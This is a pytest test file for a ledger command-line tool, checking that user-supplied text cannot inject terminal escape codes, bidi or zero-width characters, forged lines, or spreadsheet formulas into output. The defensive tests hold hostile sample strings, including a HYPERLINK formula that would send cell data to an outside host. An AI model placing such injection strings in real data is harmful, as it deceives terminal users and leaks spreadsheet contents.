"""Text of others moves no cursor, turns no direction and runs in no spreadsheet; JSON is exact."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli import render
from projections.html.svg import text
from projections.pages import Figure
from projections.printable import csv_cell, cut, printable, width
from tests.cli.program import START, World, lines

HOSTILE: Final = "\x1b]0;owned\x07\x1b[31mX\r\nfake line\u202e\u2066\u200b\x9b31m\u2028\ufeff"
ACTS: Final = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]"
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> World:
    """Make a ledger whose free texts hold every kind of control."""
    world = World(tmp_path_factory.mktemp("hostile") / "t.db")
    who = {"at": START, "actor": HOSTILE, "reason": HOSTILE}
    world.done(
        "import", "-",
        stdin=lines(
            {**who, "do": "open-account", "account": "a-1"},
            {**who, "do": "top-up", "account": "a-1", "amount": "5", "channel": "c", "serial": "1"},
            {**who, "do": "renew", "account": "a-1", "instances": ["i-9"], "months": 1},
            {**who, "do": "grant-coupon", "account": "a-1", "coupon": "k", "amount": "1",
             "ends": "2025-02-01"},
        ),
        code=4,
    )  # fmt: skip
    world.done("tag", "add", "x", "--actor", HOSTILE, "--reason", HOSTILE)
    return world


@pytest.mark.parametrize(
    "asked",
    [("log",), ("log", "--graph"), ("show", "2"), ("show", "4"), ("balances",), ("tag", "list"),
     ("blame", "a-1"), ("state", "a-1"), ("report", "statement", "a-1"), ("state", HOSTILE),
     ("why", "a-1.cash"), ("last", "a-1.cash"), ("diff", "@1", "@3"), ("whatif", "--skip", "3"),
     ("report", HOSTILE), (HOSTILE,), ("log", "--type", HOSTILE), ("state", "a-1", "--at", HOSTILE),
     ("seal", "-o", f"no/{HOSTILE}"), ("export", "--format", HOSTILE)],
    ids=lambda words: " ".join(words).replace(HOSTILE, "HOSTILE"),
)  # fmt: skip
def test_nothing_of_others_acts_on_a_terminal(hostile: World, asked: tuple[str, ...]) -> None:
    told = hostile.run(*asked)
    assert not ACTS.findall(told.out + told.err), told
    assert "fake line\n" not in told.out.replace("\\nfake line", "")


def test_a_page_shows_no_control_either(hostile: World) -> None:
    page = hostile.done("report", "timeline", "a-1", "--html").out
    assert not ACTS.findall(page.replace("\t", ""))
    assert text("<\u202e\x1b>") == "&lt;\\u202e\\x1b&gt;"


def test_json_stays_exact(hostile: World) -> None:
    assert hostile.json("show", "2")["actor"] == HOSTILE
    assert hostile.rows("log")[1]["actor"] == HOSTILE


@given(st.text())
def test_what_is_spelled_out_stays_as_it_is(given_text: str) -> None:
    shown = printable(given_text)
    assert printable(shown) == shown
    assert not ACTS.findall(shown)
    assert "\n" not in shown
    if given_text.isprintable():
        assert shown == given_text


@pytest.mark.parametrize(
    ("content", "cell"),
    [("=1+1", "'=1+1"), ("+1-2", "'+1-2"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1", "'\uff1d1"), ("-", "'-"),
     ("-5.00", "-5.00"), ("-5", "-5"), (-5, -5), ("5", "5"), ("", ""), (None, None),
     ("a=1", "a=1"), ("2025-01-01T00:00:00+08:00", "2025-01-01T00:00:00+08:00"),
     ("-\u0665", "'-\u0665"), ("-1\n", "'-1\n"), (["=1"], '["=1"]'), (True, "true")],
)  # fmt: skip
def test_a_spreadsheet_runs_no_cell(content: object, cell: object) -> None:
    assert csv_cell(content) == cell


def test_a_csv_of_the_log_is_neutral_and_its_json_is_not(tmp_path: Path) -> None:
    world = World(tmp_path / "t.db")
    formula = '=HYPERLINK("http://x/?"&A1)'
    world.done("record", "open-account", "--account", "-a", "--actor", formula, "--at", START)
    row = list(csv.DictReader(io.StringIO(world.done("log", "--csv").out)))[-1]
    assert (row["actor"], row["account"]) == (f"'{formula}", "'-a")
    assert world.rows("log")[-1]["actor"] == formula
    (balance,) = csv.DictReader(io.StringIO(world.done("balances", "--csv").out))
    assert balance["cash"] == "0.00"


def test_a_table_aligns_wide_characters_and_figures(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [("\u5ba2\u6237", Decimal("1.00")), ("a-1", Figure("-250.00")), ("e\u0301", 7)]
    render.table(("account", "cash"), rows)
    shown = capsys.readouterr().out.splitlines()
    assert shown == [
        "account     cash",
        "\u5ba2\u6237        1.00",
        "a-1      -250.00",
        "e\u0301              7",
    ]
    assert {width(line) for line in shown} == {16}


def test_words_are_cut_to_the_page_and_figures_never(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [("\u5ba2" * 60, Decimal("1.00"))]
    render.table(("who", "sum"), rows, page=40)
    *_, line = capsys.readouterr().out.splitlines()
    assert width(line) <= 40
    assert line.endswith("1.00")
    assert cut("\u5ba2\u6237", 3) == "\u5ba2\u2026"


def test_only_our_own_marks_become_colour(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(render, "coloured", lambda: True)
    render.write(f"{render.strong('a' + HOSTILE, 31)} b\x1b[7m")
    shown = capsys.readouterr().out
    assert shown.startswith("\x1b[31ma\\x1b]0;owned")
    assert shown.endswith("\x1b[0m b\\x1b[7m\n")
    assert json.dumps(shown).count("u001b") == 2
